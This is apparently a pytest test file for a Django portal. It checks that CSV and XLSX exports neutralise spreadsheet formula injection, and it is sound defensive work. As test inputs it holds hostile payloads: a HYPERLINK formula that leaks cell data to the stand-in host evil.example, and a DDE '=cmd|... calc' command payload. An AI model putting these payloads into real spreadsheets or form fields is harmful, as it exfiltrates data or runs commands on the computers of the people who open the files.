"""Spreadsheet formula injection is neutralised in every CSV and XLSX (issue 11)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gnist.exports import csv_bytes, xlsx_bytes
from tests.factories import JurySeatFactory, ReviewFactory, ScoreFactory

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?"&A1;"Klikk")'


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", ["=1+2", "+47 999", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_begin_like_a_formula_become_text(text):
    rows = read_csv(csv_bytes(["Title"], [[text], ["Plain"], [-3]]))

    assert rows == [["Title"], ["'" + text], ["Plain"], ["-3"]]


def test_xlsx_cell_that_begins_with_equals_is_text_not_a_formula():
    content = xlsx_bytes("Ark", ["Title", "Number"], [[ATTACK, -3]])

    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet["A2"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert (cell.value, cell.data_type, cell.quotePrefix) == (ATTACK, "s", True)
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")
    assert "<f>" not in sheet_xml


def test_challenge_exports_neutralise_a_formula_title(client_as, staff, tynset_submitted):
    tynset_submitted.title = ATTACK
    tynset_submitted.save(update_fields=["title"])
    client = client_as("staff")

    csv_rows = read_csv(client.get(reverse("applications:staff_export_csv")).content)
    xlsx = client.get(reverse("applications:staff_export_xlsx")).content
    sheet = load_workbook(io.BytesIO(xlsx)).active

    assert csv_rows[1][4] == "'" + ATTACK
    assert (sheet["E2"].value, sheet["E2"].data_type) == (ATTACK, "s")


def test_jury_exports_neutralise_a_formula_comment_in_the_portal_csv_format(
    client_as, staff, tynset_challenge
):
    review = ReviewFactory(
        seat=JurySeatFactory(round=tynset_challenge.round), application=tynset_challenge
    )
    ScoreFactory(
        review=review, criterion=tynset_challenge.round.criteria.get(key="roadmap"), comment="@cmd"
    )
    client = client_as("staff")

    csv_rows = read_csv(client.get(reverse("jury:export_csv")).content)
    xlsx = client.get(reverse("jury:export_xlsx")).content
    sheet = load_workbook(io.BytesIO(xlsx)).active

    assert csv_rows[0][:3] == ["Kommunenummer", "Kommune", "Fylke"]
    assert csv_rows[1][10] == "'@cmd"
    assert sheet["K2"].value == "@cmd"


def test_workshop_attendee_export_neutralises_a_formula_name(
    client_as, staff, open_workshop, tynset_registration
):
    tynset_registration.full_name = "=cmd|' /C calc'!A0"
    tynset_registration.save(update_fields=["full_name"])

    rows = read_csv(
        client_as("staff")
        .get(reverse("workshops:staff_registrations_csv", args=[open_workshop.pk]))
        .content
    )

    assert rows[1][3] == "'=cmd|' /C calc'!A0"
